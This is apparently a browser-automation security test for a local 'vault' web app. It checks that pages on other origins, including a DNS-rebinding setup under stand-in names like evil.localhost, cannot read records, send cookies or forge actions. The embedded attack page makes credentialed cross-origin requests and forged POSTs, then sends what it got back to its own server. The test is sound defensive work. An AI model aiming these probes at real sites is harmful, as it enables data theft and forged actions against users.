"""Pages of somebody else, in a browser that is let into the page: what they ask of it, by its name or by their own, gets nothing.

    rebinding.py ADDRESS CODE PASSWORD BROWSER

BROWSER is chromium or firefox. Everything that it sends goes through a proxy of this test, which says where each name leads, as
whoever answers for a name can, and keeps what was sent and answered. The vault has a record "Penicillin". Ends with 0 when nobody
else got anything; else says what they got.
"""

import contextlib
import http.server
import ipaddress
import json
import re
import socket
import socketserver
import sys
import threading
import time
import urllib.parse

from marionette_driver import By
from marionette_driver.errors import MarionetteException, StaleElementException
from playwright.sync_api import Error, sync_playwright

from story import in_firefox

address, code, password, browser = sys.argv[1:5]
port = urllib.parse.urlsplit(address).port
vault = ("127.0.0.1", port)
secrets = re.compile("Penicillin|Emma")

# What a page tries that wants what is there: it tells its own server what each attempt got, and nothing is "".
ATTEMPTS = """<!DOCTYPE html><title>Somebody else</title><p>Somebody else's page</p><script type="module">
const {target, record, told, name} = INPUT
const at = (path, attempt) => `${target}${path}?by=${name}&as=${attempt}`
const form = {method: "POST", body: new URLSearchParams({words: "penicillin", title: "Forged", type: "note", form: ""})}
const soon = attempt => Promise.race([attempt, new Promise(done => setTimeout(done, 5000, ""))])
const asked = (path, attempt, options) =>
    fetch(at(path, attempt), {credentials: "include", ...options}).then(answer => answer.text()).catch(() => "")
const shown = (kind, attributes) => new Promise(done => {
    const element = Object.assign(document.createElement(kind), attributes)
    element.onload = () => {
        if (kind !== "iframe") return done(`${kind} was loaded`)
        try { done(element.contentDocument.documentElement.innerText) } catch { done("") }
    }
    element.onerror = () => done("")
    document.body.append(element)
})
const heard = source => new Promise(done => {
    source.onopen = source.onmessage = () => done("it was opened")
    source.onerror = () => done("")
})
const got = {cookie: document.cookie}
for (const mode of ["cors", "no-cors"]) {
    for (const path of ["/", record, "/journal", "/events", "/page.js", "/enter"]) {
        got[`${mode} ${path}`] = await soon(asked(path, mode, {mode}))
    }
    for (const path of ["/search", "/new", "/lock", `${record}/delete`]) {
        got[`${mode} POST ${path}`] = await soon(asked(path, `${mode}-post`, {mode, ...form}))
    }
}
got.put = await soon(asked(`${record}/files`, "put", {method: "PUT", body: "Forged"}))
got.image = await soon(shown("img", {src: at(`${record}/picture`, "image")}))
got.script = await soon(shown("script", {src: at("/page.js", "script")}))
got.style = await soon(shown("link", {rel: "stylesheet", href: at("/style.css", "style")}))
got.frame = await soon(shown("iframe", {src: at("/", "frame")}))
got.events = await soon(heard(new EventSource(at("/events", "events"), {withCredentials: true})))
navigator.sendBeacon(at("/lock", "beacon"), form.body)
await fetch(told, {method: "POST", mode: "no-cors", body: JSON.stringify(got)})
</script>"""

# What of it is seen on the way to the vault.
KINDS = {"cors", "cors-post", "no-cors", "no-cors-post", "put", "image", "script", "style", "frame", "events", "beacon"}

# Leads whoever opens it to the vault, by a link, by a detour or by a form.
LEADING = """<!DOCTYPE html><body><script type="module">
const {href, fields} = INPUT
const element = document.createElement(fields ? "form" : "a")
Object.assign(element, fields ? {method: "post", action: href} : {href})
for (const [name, value] of Object.entries(fields ?? {})) {
    element.append(Object.assign(document.createElement("input"), {name, value}))
}
document.body.append(element)
fields ? element.submit() : element.click()
</script>"""


class Wire(socketserver.ThreadingTCPServer):
    """Connects the browser (SOCKS), to whom a name stands for at the moment."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), None)
        self.places = {}
        self.connections = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def place(self, name, port):
        """None for whoever is not in this story: browsers ask their makers for many things."""
        if (name, port) in self.places:
            return self.places[name, port]
        if name.endswith("localhost"):
            return ("127.0.0.1", port)
        with contextlib.suppress(ValueError):
            if ipaddress.ip_address(name).is_loopback:
                return (name, port)
        return None

    def finish_request(self, browser, _):
        with contextlib.suppress(OSError), browser:
            there = self.place(*self.wanted(browser))
            # Whether it is connected.
            browser.sendall(bytes([5, 0 if there else 4, 0, 1]) + bytes(6))
            if not there:
                return
            with socket.create_connection(there) as server:
                sent, answered = bytearray(), bytearray()
                if there == vault:
                    self.connections.append((sent, answered))
                back = threading.Thread(target=self.carry, args=(server, browser, answered), daemon=True)
                back.start()
                self.carry(browser, server, sent)
                back.join()

    @staticmethod
    def wanted(browser):
        """The name, or the address, and the port that the browser asks for."""

        def take(count):
            return browser.recv(count, socket.MSG_WAITALL)

        take(take(2)[1])
        browser.sendall(bytes([5, 0]))
        kind = take(4)[3]
        if kind == 3:
            name = take(take(1)[0]).decode()
        else:
            name = str(ipaddress.ip_address(take(4 if kind == 1 else 16)))
        return name, int.from_bytes(take(2), "big")

    @staticmethod
    def carry(source, sink, kept):
        with contextlib.suppress(OSError):
            while some := source.recv(65536):
                kept += some
                sink.sendall(some)
        with contextlib.suppress(OSError):
            sink.shutdown(socket.SHUT_WR)

    def exchanges(self, mark):
        """What the vault was asked, and what it answered: of the requests whose address has this in it."""
        found = []
        for sent, answered in list(self.connections):
            requests = re.findall(r"([A-Z]+) (\S+) HTTP/1\.1\r\n(.*?\r\n)\r\n", sent.decode("latin1"), re.DOTALL)
            answers = re.split(r"HTTP/1\.1 (\d{3}) ", answered.decode("utf8", "replace"))[1:]
            for (method, path, head), status, answer in zip(requests, answers[::2], answers[1::2]):
                if mark in path:
                    found.append((method, path, head, int(status), answer))
        return found


class Somebody(http.server.ThreadingHTTPServer):
    """A server on another address of this machine, with pages that want what is in the vault."""

    daemon_threads = True

    def __init__(self, port=0):
        super().__init__(("127.0.0.2", port), Pages)
        self.pages = {}
        self.served = lambda: None
        self.told = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Pages(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        page = self.server.pages.get(self.path, "")
        if page.startswith("http"):
            self.send_response(302)
            self.send_header("Location", page)
            return self.end_headers()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page.encode())
        self.server.served()

    def do_POST(self):
        self.server.told.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(204)
        self.end_headers()

    def log_message(self, *arguments):
        pass


class Chromium:
    def __init__(self, page):
        self.page = page

    def go(self, place):
        # An answer with nothing in it is an error to browsers.
        with contextlib.suppress(Error):
            self.page.goto(place, wait_until="commit")

    def fill(self, selector, text):
        self.page.fill(selector, text)

    def press(self, selector):
        self.page.click(selector)

    def read(self, selector):
        return self.page.locator(selector).first.inner_text()

    def link(self, selector):
        return self.page.locator(selector).first.get_attribute("href")


class Firefox:
    def __init__(self, browser):
        self.browser = browser
        browser.timeout.implicit = 120

    def find(self, selector):
        return self.browser.find_element(By.CSS_SELECTOR, selector)

    def go(self, place):
        with contextlib.suppress(MarionetteException):
            self.browser.navigate(place)

    def fill(self, selector, text):
        self.find(selector).send_keys(text)

    def press(self, selector):
        self.find(selector).click()

    def read(self, selector):
        # What is found may be gone with its page.
        with contextlib.suppress(StaleElementException):
            return self.find(selector).text

    def link(self, selector):
        return self.find(selector).get_attribute("href")


def wait_for(what, true):
    for _ in range(1200):
        if true():
            return
        time.sleep(0.1)
    sys.exit(f"there was never {what}")


class Story:
    def __init__(self, visitor, wire):
        self.visitor = visitor
        self.wire = wire
        self.somebody = Somebody()
        self.record = ""

    def enter(self):
        visitor = self.visitor
        visitor.go(address)
        visitor.fill("#code", code)
        visitor.press("main button")
        visitor.fill("#password", password)
        visitor.press("main button")
        self.record = visitor.link(".record a")

    def see_the_record(self, times):
        """Whoever is in gets it, by the cookie: so the wire shows what the others are to be without."""
        self.visitor.go(address + self.record)
        wait_for("the record", lambda: self.visitor.read("h1") == "Penicillin")
        wait_for("an answer", lambda: len(self.seen()) == times)
        for method, path, head, status, answer in self.seen():
            assert status == 200 and has_cookie(head) and secrets.search(answer), (method, path, head, status)

    def seen(self):
        return [one for one in self.wire.exchanges(self.record) if "?" not in one[1]]

    def attempt(self, server, name, target):
        """A page of this server, under this name, tries what a script can."""
        told = f"http://127.0.0.2:{self.somebody.server_port}/told"
        server.pages["/"] = filled(ATTEMPTS, target=target, record=self.record, told=told, name=name)
        self.visitor.go(f"http://{name}/")
        wait_for(f"a word from {name}", lambda: self.somebody.told)
        got = {attempt: what for attempt, what in self.somebody.told.pop().items() if what}
        assert not got, f"{name} got {got}"
        self.expect(name, "beacon")

    def lead(self, name, kind, path, fields=None):
        """A page of this name leads the browser itself to the page."""
        href = f"{address}{path}?by={name}&as={kind}"
        pages = self.somebody.pages
        pages["/away"] = href
        pages["/lead"] = filled(LEADING, href="/away" if kind == "detour" else href, fields=fields)
        self.visitor.go(f"http://{name}/lead")
        self.expect(name, kind)

    def expect(self, name, kind):
        mark = f"?by={name}&as={kind}"
        wait_for(f"{kind} of {name}", lambda: self.wire.exchanges(mark))

    def judge(self, name, statuses):
        """What the requests of this name got: nothing, and they had no cookie."""
        exchanges = self.wire.exchanges(f"?by={name}&")
        kinds = {path.split("as=")[1] for _, path, _, _, _ in exchanges}
        assert kinds >= KINDS, f"{name} did not try {KINDS - kinds}"
        for method, path, head, status, answer in exchanges:
            assert not has_cookie(head), f"{method} {path} had a cookie: {head}"
            assert status in statuses, f"{method} {path} was answered: {status}"
            assert method in ("GET", "OPTIONS") or status in (403, 421), f"{method} {path} was answered: {status}"
            assert not secrets.search(answer), f"{method} {path} got {answer}"


def filled(page, **values):
    return page.replace("INPUT", json.dumps(values))


def has_cookie(head):
    return re.search(r"^cookie:.*kinvault=", head, re.IGNORECASE | re.MULTILINE)


def run(visitor, wire):
    story = Story(visitor, wire)
    story.enter()
    story.see_the_record(1)

    # Pages on another address, and under another name of this machine, that even know the name of this page.
    free = story.somebody.server_port
    wire.places["evil.localhost", free] = story.somebody.server_address
    for name in (f"127.0.0.2:{free}", f"evil.localhost:{free}"):
        story.attempt(story.somebody, name, address)
        story.lead(name, "link", "/")
        story.lead(name, "detour", story.record)
        story.lead(name, "search", "/search", {"words": "penicillin"})
        story.lead(name, "lock", "/lock", {"form": ""})
        # Who follows a link sees the entrance, as anybody does who has no cookie.
        story.judge(name, {401, 403, 405})

    # Pages whose own name leads here from the moment on when they have been fetched (DNS rebinding).
    before = Somebody(port)
    for name in ("evil.example", "evil.localhost", "localhost"):
        wire.places[name, port] = before.server_address
        before.served = lambda: wire.places.update({(name, port): vault})
        story.attempt(before, f"{name}:{port}", f"http://{name}:{port}")
        story.judge(f"{name}:{port}", {421})

    # Nothing was locked, changed or made.
    story.see_the_record(2)
    visitor.go(address)
    assert "Forged" not in visitor.read(".records"), visitor.read(".records")
    visitor.press("form[action='/lock'] button")
    wait_for("a lock", lambda: visitor.read("h1") == "Locked")


wire = Wire()
if browser == "chromium":
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(
            executable_path="/usr/bin/chromium", args=["--no-sandbox"],
            proxy={"server": f"socks5://127.0.0.1:{wire.server_address[1]}"},
        )
        page = chromium.new_page(locale="en-GB")
        page.set_default_timeout(120_000)
        page.set_default_navigation_timeout(30_000)
        run(Chromium(page), wire)
        chromium.close()
else:
    in_firefox(
        lambda firefox: run(Firefox(firefox), wire),
        **{
            "intl.accept_languages": "en-GB", "network.proxy.type": 1, "network.proxy.socks": "127.0.0.1",
            "network.proxy.socks_port": wire.server_address[1], "network.proxy.socks_remote_dns": True,
            "network.proxy.allow_hijacking_localhost": True,
        },
    )
